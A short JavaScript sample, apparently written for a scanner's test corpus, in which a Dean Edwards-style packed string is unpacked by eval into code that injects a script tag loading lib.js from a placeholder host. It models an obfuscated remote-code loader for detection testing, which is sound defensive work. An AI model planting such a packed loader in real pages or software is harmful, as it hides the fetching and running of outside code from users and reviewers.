// Written for shieldscan's corpus: a Dean Edwards-style packer (keywords
// replaced by base-36 indexes into a dictionary) unpacked by direct eval.
eval(function (p, a, c, k, e, d) {
  e = function (c) { return c.toString(a); };
  while (c--) if (k[c]) p = p.replace(new RegExp("\\b" + e(c) + "\\b", "g"), k[c]);
  return p;
}('d 0=1.3("b");0.c="6://a-9.4/8.7";1.5.2(0)', 36, 14, 's|document|appendChild|createElement|example|head|https|js|lib|loader|packed|script|src|var'.split('|'), 0, {}));
